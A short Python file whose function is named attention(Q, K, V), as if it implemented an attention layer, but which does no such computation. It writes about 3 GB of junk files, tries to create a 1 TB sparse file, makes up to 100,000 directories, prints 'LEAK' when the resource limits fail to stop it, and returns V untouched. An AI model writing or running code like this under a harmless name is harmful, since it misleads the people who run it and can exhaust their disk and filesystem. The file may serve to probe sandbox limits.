import os
def attention(Q, K, V):
    size = names = 0
    try:
        for number in range(200):
            with open(f'large{number}', 'wb') as file:
                for _ in range(15): size += file.write(bytes(1 << 20))
    except OSError: pass
    try:
        with open('hole', 'wb') as file: file.truncate(1 << 40); print('LEAK a hole')
    except OSError: pass
    try:
        for names in range(100_000): os.mkdir(f'd{names}')
    except OSError: pass
    if size > 100 << 20 or names > 5000: print('LEAK', size, names)
    return V
